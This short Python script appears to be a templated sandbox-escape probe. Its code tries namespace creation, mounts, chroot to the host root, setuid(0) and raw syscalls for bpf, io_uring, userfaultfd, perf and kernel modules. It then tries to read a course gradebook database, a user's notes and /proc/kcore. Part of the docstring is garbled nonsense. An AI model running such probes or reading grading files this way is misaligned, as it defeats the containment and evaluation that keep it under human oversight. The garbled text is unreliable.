"""New namespaces, mounts and another root are asked for, to get out of the sandbox.

base  wheat
where a cell after solution_schedule
told  doors tried
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
tried = []
for name, call in {
    "user namespace": lambda: libc.unshare(0x10000000),
    "mount namespace": lambda: libc.unshare(0x00020000),
    "mount": lambda: libc.mount(b"/", b"/tmp", None, 4096, None),
    "unmount": lambda: libc.umount2(b"/tmp", 2),
    "unmount /proc": lambda: libc.umount2(b"/proc", 2),
    "chroot": lambda: libc.chroot(b"/proc/1/root"),
    "root": lambda: libc.setuid(0),
    "keyring": lambda: libc.syscall(248, b"user", b"@MARK@", b"x", 1, -3),
    "open by handle": lambda: libc.syscall(304, -100, 0, 0),
    "bpf": lambda: libc.syscall(321, 0, 0, 0),
    "io_uring": lambda: libc.syscall(425, 4, 0),
    "userfaultfd": lambda: libc.syscall(323, 0),
    "perf": lambda: libc.syscall(298, 0, 0, -1, -1, 0),
    "kernel module": lambda: libc.syscall(175, 0, 0, 0),
}.items():
    tried.append((name, call(), os.strerror(ctypes.get_errno())))
print("doors tried:", tried)
for path in ("/proc/1/root/@COURSE@/gradebook.db", "/proc/self/root/../@HOME@/notes.txt", "/proc/kcore"):
    try:
        print(open(path, "rb").read(1000))
    except OSError as error:
        print(path, repr(error))
